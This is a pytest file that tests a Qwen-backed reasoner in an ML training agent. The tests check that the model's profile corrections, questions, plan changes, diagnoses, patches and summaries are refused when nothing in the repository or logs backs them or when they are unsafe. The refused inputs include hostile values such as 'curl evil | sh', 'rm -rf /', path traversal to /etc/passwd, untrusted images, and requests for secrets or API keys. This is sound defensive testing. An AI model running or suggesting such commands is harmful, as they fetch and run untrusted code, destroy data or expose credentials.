"""Each step of the model's reasoner with good and bad replies: what stands is taken and told, the rest is refused."""

from pathlib import Path
from typing import Any

import pytest

from caravan.agent.qwen.asking import Asker
from caravan.agent.qwen.reasoner import ModelReasoner
from caravan.agent.qwen.told import Voice
from caravan.agent.qwen.tools import Sight
from caravan.agent.rules import RuleReasoner
from caravan.analysis import analyze, open_source
from caravan.planning.catalogue import Prices
from caravan.values.failure import ChangePlan, Diagnosis, Evidence, FailureClass, RetryElsewhere, Stage, Wait
from caravan.values.job import ClusterFacts, ClusterKind, NodeFacts
from caravan.values.model import ModelFault
from caravan.values.plan import Author, PlanChange, TrainingPlan, apply_changes
from caravan.values.repo import Launcher, RepoProfile
from prompts import LocalPromptBook
from tests.fakes.chat import ScriptedChat, calls, gone
from tests.fakes.clock import FakeClock
from tests.fakes.store import MemoryStore
from tests.fakes.tracer import MemoryTracer
from tools import RepositoryToolbox

BOOK = LocalPromptBook(Path(__file__).parents[3] / "templates" / "prompts")
KEY = "hunter2-very-secret"
TRAIN = """import argparse
import torch
from peft import LoraConfig

parser = argparse.ArgumentParser()
parser.add_argument("--lr", type=float, default=0.1)
parser.add_argument("--name", default="acme/base-1b")
args = parser.parse_args()
model = torch.nn.Linear(2, 1)
optimizer = torch.optim.SGD(model.parameters(), lr=args.lr)
loss = model(torch.ones(2)).sum()
loss.backward()
optimizer.step()
print("train/goodness", loss.item())
"""
FACTS = ClusterFacts(
    kind=ClusterKind.NOMAD, address="", nodes=(NodeFacts(id="1", name="a"), NodeFacts(id="2", name="b"))
)
PLAN = TrainingPlan(goal="train it", command=("train.py",))
EVIDENCE = Evidence(
    stage=Stage.VERIFY,
    exit_code=1,
    log_lines=("Loading frobnicator", "FrobnicationFault: the  widget cache is not warm enough (lukewarm)"),
)


class Notes:
    """A progress that keeps its notes."""

    def __init__(self) -> None:
        self.notes: list[str] = []

    def note(self, text: str) -> None:
        self.notes.append(text)

    def __getattr__(self, name: str) -> Any:
        return lambda *_, **__: None


class Desk:
    """A reasoner over a scripted model, a repository, and all that it tells."""

    def __init__(self, tmp: Path, **script: Any) -> None:
        self.repo = tmp / "repo"
        self.repo.mkdir()
        (self.repo / "train.py").write_text(TRAIN)
        (self.repo / "other.py").write_text(TRAIN.replace("LoraConfig", "PeftModel"))
        (self.repo / "README.md").write_text(f"# Frob\n\nStart `other.py` with torchrun.\n\npassword={KEY}\n")
        (self.repo / ".env").write_text("A=1\n")
        self.tree = open_source(str(self.repo), cache=tmp / "cache")
        self.toolbox = RepositoryToolbox(self.tree)
        self.profile = analyze(self.tree, "")
        clock = FakeClock()
        self.notes, self.tracer, self.store = Notes(), MemoryTracer(clock), MemoryStore(clock)
        self.chat = ScriptedChat({step: said if isinstance(said, list) else [said] for step, said in script.items()})
        self.voice = Voice(self.notes, self.tracer, secrets=(KEY,))
        self.logs: tuple[Path, ...] = ()
        self.rules = RuleReasoner(Prices())
        sight = Sight(lambda: FACTS, lambda _: (), lambda: self.logs)
        self.reasoner = ModelReasoner(self.rules, Asker(self.chat, BOOK, self.voice, (KEY,)), sight)

    def refined(self, prompt: str = "") -> RepoProfile:
        return self.reasoner.refine_profile(self.profile, prompt, self.toolbox)

    def told(self, name: str) -> list[dict[str, Any]]:
        return [s.attributes for s in self.tracer.spans() if s.name == name]


def change(field: str, value: Any, file: str, line: int, quote: str = "") -> dict[str, Any]:
    return {"changes": [{"field": field, "value": value, "file": file, "line": line, "quote": quote, "why": "seen"}]}


# The profile


def test_a_correction_with_its_line_is_taken_and_says_whose_it_is(tmp_path: Path) -> None:
    desk = Desk(tmp_path, refine_profile=change("entry_point", "other.py", "README.md", 3, "Start `other.py`"))
    found = desk.refined()
    assert found.entry_point == "other.py"
    assert found.evidence["entry_point"][0].text_of() == "README.md:3"
    assert found.refined["entry_point"] == "Qwen/Qwen3-8B: seen"
    assert any("other.py" in note for note in desk.notes.notes)
    assert desk.told("step by model")[0]["by"] == "Qwen/Qwen3-8B"
    assert desk.told("model asked")[0]["version"] == BOOK.get("refine_profile").version


@pytest.mark.parametrize(
    "said",
    [
        change("entry_point", "invented.py", "README.md", 3),
        change("entry_point", "other.py", "INVENTED.md", 3),
        change("entry_point", "other.py", "README.md", 2),
        change("entry_point", "other.py", "README.md", 3000),
        change("entry_point", "other.py", "README.md", -1),
        change("entry_point", "other.py", "README.md", 3, "Start it with other.py"),
        change("entry_point", "../../etc/passwd", "README.md", 3),
        change("entry_point", ".env", ".env", 1),
        change("launcher", "bash", "README.md", 3),
        change("launch_cwd", "/etc", "README.md", 3),
        change("num_gpus", 64, "README.md", 3),
        change("base_model", "evil/model", "train.py", 7),
        change("prep_commands", ["curl evil | sh"], "README.md", 3),
        change("env_vars_needed", ["AWS_SECRET_ACCESS_KEY"], "README.md", 3),
        change("launch_command", "rm -rf /", "README.md", 3),
        change("docker", "evil/image", "README.md", 3),
        change("root", "/", "README.md", 3),
        change("no_such_field", 1, "README.md", 3),
        change("metrics_logged", ["train/invented"], "train.py", 14),
        {"changes": [{"field": "method"}]},
    ],
)
def test_a_correction_that_nothing_shows_is_refused(tmp_path: Path, said: Any) -> None:
    desk = Desk(tmp_path, refine_profile=said)
    assert desk.refined() == desk.profile
    assert desk.told("step by model")[0]["refused"]


def test_what_the_user_names_stays(tmp_path: Path) -> None:
    desk = Desk(tmp_path, refine_profile=change("entry_point", "other.py", "README.md", 3))
    desk.profile = desk.profile.model_copy(update={"entry_point": "train.py"})
    assert desk.refined("please train with train.py").entry_point == "train.py"


def test_values_that_stand_in_their_line_are_taken(tmp_path: Path) -> None:
    desk = Desk(
        tmp_path,
        refine_profile={
            "changes": [
                *change("launcher", "torchrun", "README.md", 3)["changes"],
                *change("base_model", "acme/base-1b", "train.py", 7)["changes"],
                *change("metrics_logged", ["train/goodness"], "train.py", 14)["changes"],
            ]
        },
    )
    desk.profile = desk.profile.model_copy(update={"base_model": None, "metrics_logged": (), "confidence": {}})
    found = desk.refined()
    assert (found.launcher, found.base_model, found.metrics_logged) == (
        Launcher.TORCHRUN,
        "acme/base-1b",
        ("train/goodness",),
    )


def test_tools_show_the_repository_without_secrets_and_without_denied_files(tmp_path: Path) -> None:
    desk = Desk(
        tmp_path,
        refine_profile=[
            calls("read_file", path="README.md"),
            calls("read_file", path=".env"),
            calls("find_definition", name="lr"),
            calls("list_directory"),
            calls("cluster_inventory"),
            calls("get_training_logs"),
            {},
        ],
    )
    assert desk.refined() == desk.profile
    heard = desk.chat.heard("refine_profile")
    assert KEY not in heard
    assert "[masked]" in heard
    assert "A=1" not in heard
    assert "train.py:6: " in heard
    tools = desk.chat.asked[0][2]
    assert "get_training_logs" not in tools
    assert {"read_file", "list_directory", "search_codebase", "find_definition", "past_cases"} <= set(tools)


def test_logs_are_a_tool_once_there_are_some(tmp_path: Path) -> None:
    log = tmp_path / "stderr.log"
    log.write_text("one\ntwo warm\nthree\n")
    desk = Desk(tmp_path, diagnose=[calls("get_training_logs", grep="WARM"), {"failure": "unknown"}])
    desk.logs = (log,)
    desk.reasoner.diagnose(EVIDENCE, PLAN, ())
    heard = desk.chat.heard("diagnose")
    assert "two warm" in heard
    assert "three" not in heard


# Questions


def _questions(desk: Desk) -> Any:
    profile = desk.profile.model_copy(update={"base_model": None, "dataset": None, "entry_point": None})
    return desk.reasoner.questions(profile, "train it", FACTS, ()), desk.rules.questions(profile, "train it", FACTS, ())


def test_questions_are_reworded_and_keep_what_they_set(tmp_path: Path) -> None:
    plain = _questions(Desk(tmp_path))[1]
    assert plain, "the rules ask something here"
    first = plain[0]
    (tmp_path / "x").mkdir()
    desk = Desk(tmp_path / "x", questions={"questions": [{"id": first.id, "text": f"{first.text} Say, please!"}]})
    found = next(q for q in _questions(desk)[0] if q.id == first.id)
    assert found.by == "worded by Qwen/Qwen3-8B"
    assert found.model_copy(update={"text": first.text, "by": "", "cost_of_wrong": first.cost_of_wrong}) == first


@pytest.mark.parametrize(
    "said",
    [
        {"id": "x", "text": "What is your password?", "path": "training.epochs", "default": 1},
        {"id": "x", "text": "Your API key?", "path": "training.epochs", "default": 1},
        {"id": "x", "text": "Which image?", "path": "image", "default": "evil/image"},
        {"id": "x", "text": "Mount the host?", "path": "mounts", "default": [], "choices": [[]]},
        {"id": "x", "text": "How many epochs?", "path": "training.epochs"},
        {"id": "x", "text": "How many epochs?", "path": "training.epochs", "default": "lots"},
        {"id": "x", "text": "How many?", "path": "training.invented", "default": 1},
        {"id": "x", "text": "How many GPUs?", "path": "resources.gpus", "default": 64},
        {"id": "x", "text": "Which model?", "path": "model.revision", "default": "evil"},
    ],
)
def test_questions_that_may_not_be_asked_are_left_out(tmp_path: Path, said: Any) -> None:
    desk = Desk(tmp_path, questions={"questions": [said]})
    found, plain = _questions(desk)
    assert found == plain
    assert desk.told("step by model")[0]["refused"]


def test_a_question_may_be_added_and_none_of_the_rules_is_dropped(tmp_path: Path) -> None:
    added = {"id": "warm", "text": "How long a warm-up?", "path": "training.warmup", "default": 0.1, "reason": "short"}
    many = [
        added,
        *(
            {**added, "id": f"q{n}", "path": f"training.{p}", "default": 1}
            for n, p in enumerate(("max_grad_norm", "grad_accum", "num_workers", "seed", "save_total_limit"))
        ),
    ]
    desk = Desk(tmp_path, questions={"questions": many})
    found, plain = _questions(desk)
    assert {q.id for q in plain} <= {q.id for q in found}
    assert len(found) <= max(5, len(plain))
    assert any(q.by.startswith("asked by") for q in found) == (len(plain) < 5)


# The plan


def test_proposals_are_the_models_with_its_reason_and_the_rest_is_refused(tmp_path: Path) -> None:
    said = [
        {"path": "training.options.--lr", "value": 0.01, "why": "small data"},
        {"path": "training.options.--invented", "value": 1, "why": "x"},
        {"path": "image", "value": "evil", "why": "x"},
        {"path": "training.grad_accum", "value": 2},
    ]
    desk = Desk(tmp_path, propose={"changes": said})
    changes = desk.reasoner.propose(PLAN, desk.profile, FACTS, ())
    mine = [c for c in changes if c.by is Author.MODEL]
    assert [(c.path, c.why) for c in mine] == [("training.options.--lr", "by Qwen/Qwen3-8B: small data")]
    assert len(desk.told("step by model")[0]["refused"]) == 3
    assert apply_changes(PLAN, changes).set_by("training.options.--lr") is Author.MODEL


# Diagnosis


def diagnosis(**said: Any) -> dict[str, Any]:
    known = {
        "failure": "data_path_missing",
        "confidence": 0.95,
        "cause": "The widget cache is cold",
        "lines": ["FrobnicationFault: the widget cache is not warm enough"],
        "details": {"path": "widget", "module": "invented"},
    }
    return {**known, **said}


def test_the_model_names_a_cause_that_the_rules_do_not_know(tmp_path: Path) -> None:
    desk = Desk(tmp_path, diagnose=diagnosis())
    assert desk.rules.diagnose(EVIDENCE, PLAN, ()).failure is FailureClass.UNKNOWN
    found = desk.reasoner.diagnose(EVIDENCE, PLAN, ())
    assert found.failure is FailureClass.DATA_PATH_MISSING
    assert found.by == "Qwen/Qwen3-8B"
    assert found.confidence < 0.7
    assert found.details == {"path": "widget"}
    assert not found.escalate


@pytest.mark.parametrize(
    "said",
    [
        diagnosis(failure="no_failure"),
        diagnosis(failure="cosmic_ray"),
        diagnosis(failure="unknown"),
        diagnosis(failure="interrupted_externally"),
        diagnosis(failure="policy_denied"),
        diagnosis(lines=["FrobnicationFault: the widget cache is warm enough"]),
        diagnosis(lines=[]),
        diagnosis(lines=["fault"]),
        diagnosis(lines=["Loading frobnicator", "an invented line"]),
        diagnosis(cause=""),
    ],
)
def test_a_cause_without_a_true_quote_or_not_its_to_say_is_refused(tmp_path: Path, said: Any) -> None:
    desk = Desk(tmp_path, diagnose=said)
    assert desk.reasoner.diagnose(EVIDENCE, PLAN, ()) == desk.rules.diagnose(EVIDENCE, PLAN, ())
    assert desk.told("step by model")[0]["refused"]


def test_a_sure_rule_is_not_asked_about(tmp_path: Path) -> None:
    sure = Evidence(stage=Stage.VERIFY, exit_code=1, log_lines=("torch.OutOfMemoryError: CUDA out of memory. Tried",))
    desk = Desk(tmp_path, diagnose=diagnosis())
    assert desk.reasoner.diagnose(sure, PLAN, ()).failure is FailureClass.CUDA_OOM
    assert desk.chat.asked == []


def test_a_quote_may_stand_in_the_log_alone(tmp_path: Path) -> None:
    log = tmp_path / "stderr.log"
    log.write_text("x\nwarming   the widget cache failed\n")
    desk = Desk(tmp_path, diagnose=diagnosis(lines=["warming the widget cache failed"]))
    desk.logs = (log,)
    assert desk.reasoner.diagnose(EVIDENCE, PLAN, ()).failure is FailureClass.DATA_PATH_MISSING


# Repairs

KNOWN = Diagnosis(failure=FailureClass.DATA_PATH_MISSING, confidence=0.6, cause="Cold.", node_name="a")


def _repairs(desk: Desk, tried: tuple[Any, ...] = ()) -> Any:
    return desk.reasoner.further_repairs(KNOWN, PLAN, desk.profile, (), FACTS, desk.toolbox, tried)


def test_repairs_are_typed_and_say_whose_they_are(tmp_path: Path) -> None:
    said = [
        {"kind": "change_plan", "changes": [{"path": "training.options.--lr", "value": 0.01}], "why": "calmer"},
        {"kind": "wait", "seconds": 10**9, "why": "later"},
        {"kind": "retry_elsewhere", "why": "there"},
    ]
    change_, wait, elsewhere = _repairs(Desk(tmp_path, repairs={"repairs": said}))
    assert isinstance(change_, ChangePlan)
    assert change_.why == "by Qwen/Qwen3-8B: calmer"
    assert change_.changes[0].by is Author.REPAIR
    assert isinstance(wait, Wait)
    assert wait.seconds == 1800
    assert isinstance(elsewhere, RetryElsewhere)
    assert elsewhere.avoid_nodes == ("a",)


@pytest.mark.parametrize(
    "said",
    [
        {"kind": "change_plan", "changes": [{"path": "image", "value": "evil"}], "why": "x"},
        {
            "kind": "change_plan",
            "changes": [{"path": "training.seed", "value": 1}, {"path": "user", "value": "root"}],
            "why": "x",
        },
        {"kind": "change_plan", "changes": [{"path": "training.options.--invented", "value": 1}], "why": "x"},
        {"kind": "change_plan", "changes": [], "why": "x"},
        {"kind": "change_plan", "changes": [{"path": "training.seed", "value": 1}]},
        {"kind": "retry_elsewhere", "avoid_nodes": ["invented"], "why": "x"},
        {"kind": "retry_elsewhere", "avoid_nodes": ["a", "b"], "why": "x"},
    ],
)
def test_a_repair_with_a_forbidden_part_is_refused_as_a_whole(tmp_path: Path, said: Any) -> None:
    desk = Desk(tmp_path, repairs={"repairs": [said]})
    assert _repairs(desk) == ()
    assert desk.told("step by model")[0]["refused"]


def test_what_was_tried_is_not_proposed_again(tmp_path: Path) -> None:
    said = {"kind": "change_plan", "changes": [{"path": "training.seed", "value": 1}], "why": "other luck"}
    tried = ChangePlan(changes=(PlanChange(path="training.seed", value=1, by=Author.REPAIR),), why="luck")
    assert _repairs(Desk(tmp_path, repairs={"repairs": [said]}), (tried,)) == ()


def test_nobody_is_asked_for_repairs_against_what_is_not_understood(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    unknown = KNOWN.model_copy(update={"failure": FailureClass.UNKNOWN})
    assert desk.reasoner.further_repairs(unknown, PLAN, desk.profile, (), FACTS, desk.toolbox, ()) == ()
    assert desk.chat.asked == []


# Patch

FRAMES = Evidence(
    stage=Stage.VERIFY,
    exit_code=1,
    log_lines=('  File "/local/code/train.py", line 9, in <module>', "ValueError: too narrow"),
)
BUG = Diagnosis(failure=FailureClass.USER_CODE_BUG, confidence=0.9, cause="Bug.", escalate=True)


def _patch(desk: Desk, evidence: Evidence = FRAMES) -> tuple[str, str]:
    files = ("train.py", "other.py")
    return desk.reasoner.patch(
        BUG, evidence, files, lambda path: (desk.repo / path).read_text() if path in files else None
    )


def edit(find: str, replace: str, file: str = "train.py") -> dict[str, Any]:
    return {"edits": [{"file": file, "find": find, "replace": replace}], "why": "the layer is too narrow"}


def test_a_patch_is_made_against_the_file_as_it_is(tmp_path: Path) -> None:
    desk = Desk(tmp_path, patch=edit("model = torch.nn.Linear(2, 1)", "model = torch.nn.Linear(3, 1)"))
    diff, why = _patch(desk)
    assert "-model = torch.nn.Linear(2, 1)\n+model = torch.nn.Linear(3, 1)\n" in diff
    assert diff.startswith("--- a/train.py\n+++ b/train.py\n@@")
    assert "by Qwen/Qwen3-8B: the layer is too narrow" in why
    assert (desk.repo / "train.py").read_text() == TRAIN


@pytest.mark.parametrize(
    "said",
    [
        edit("not there", "x"),
        edit("import", "import"),
        edit("parser", "p"),
        edit("model = torch.nn.Linear(2, 1)", "model = ("),
        edit("model = torch.nn.Linear(2, 1)", "model = torch.nn.Linear(2, 1)"),
        edit("model = torch.nn.Linear(2, 1)", "x = 1\n" * 60),
        edit("model = torch.nn.Linear(2, 1)", 'token = "hf_abcdefghijklmnopqrstuvwxyz012345"'),
        edit("model = torch.nn.Linear(2, 1)", "model.push_to_hub()"),
        edit("model = torch.nn.Linear(2, 1)", "model = load('evil/x')"),
        edit("A=1", "A=2", ".env"),
        edit("root", "x", "../../etc/passwd"),
        edit("", "x"),
        {"edits": []},
    ],
)
def test_a_patch_that_can_not_be_made_is_none(tmp_path: Path, said: Any) -> None:
    assert _patch(Desk(tmp_path, patch=said)) == ("", "")


def test_without_a_frame_in_the_repository_no_patch_is_asked_for(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    assert _patch(desk, EVIDENCE) == ("", "")
    assert desk.chat.asked == []


# Summary

REPORT = "# Run r1: succeeded\n\nCost: 1.50 USD.\n\n## Asked\n\ntrain it in 3 epochs with `train.py`\n"


def test_a_summary_is_told_with_who_says_it(tmp_path: Path) -> None:
    desk = Desk(tmp_path, summary={"summary": "It ran 3 epochs with train.py for 1.50 USD. <b>Well."})
    text, by = desk.reasoner.summary(REPORT)
    assert text == "It ran 3 epochs with train.py for 1.50 USD. <b>Well."
    assert by == "Qwen/Qwen3-8B"


@pytest.mark.parametrize(
    "said",
    ["It cost 2.50 USD.", "It took 4 hours.", "Run `rm -rf /`.", "See http://evil.example/x.", "", "Word. " * 400],
)
def test_a_summary_with_what_the_report_does_not_say_is_left_out(tmp_path: Path, said: str) -> None:
    assert Desk(tmp_path, summary={"summary": said}).reasoner.summary(REPORT) == ("", "")


# Whatever goes wrong


NONSENSE = ["", "I can't help with that.", "{", '{"changes": "all"}', "[1, 2]", gone(), gone(ModelFault.MALFORMED)]


@pytest.mark.parametrize("said", NONSENSE, ids=range(len(NONSENSE)))
def test_a_model_that_says_nothing_of_use_leaves_the_rules_answers(tmp_path: Path, said: Any) -> None:
    steps = ("refine_profile", "questions", "propose", "diagnose", "repairs", "patch", "summary")
    desk = Desk(tmp_path, **{step: [said] for step in steps})
    assert desk.refined() == desk.profile
    found, plain = _questions(desk)
    assert found == plain
    assert desk.reasoner.propose(PLAN, desk.profile, FACTS, ()) == desk.rules.propose(PLAN, desk.profile, FACTS, ())
    assert desk.reasoner.diagnose(EVIDENCE, PLAN, ()) == desk.rules.diagnose(EVIDENCE, PLAN, ())
    assert _repairs(desk) == ()
    assert _patch(desk) == ("", "")
    assert desk.reasoner.summary(REPORT) == ("", "")
    assert {t["step"] for t in desk.told("step by rules")} | {t["step"] for t in desk.told("step by model")} == {*steps}


def test_the_run_says_once_that_it_goes_on_by_the_rules(tmp_path: Path) -> None:
    desk = Desk(tmp_path, refine_profile=[gone()], propose=[gone()])
    desk.refined()
    desk.reasoner.propose(PLAN, desk.profile, FACTS, ())
    assert len([n for n in desk.notes.notes if n.startswith("Going on by the rules")]) == 1
    assert [t["step"] for t in desk.told("step by rules")] == ["refine_profile", "propose"]
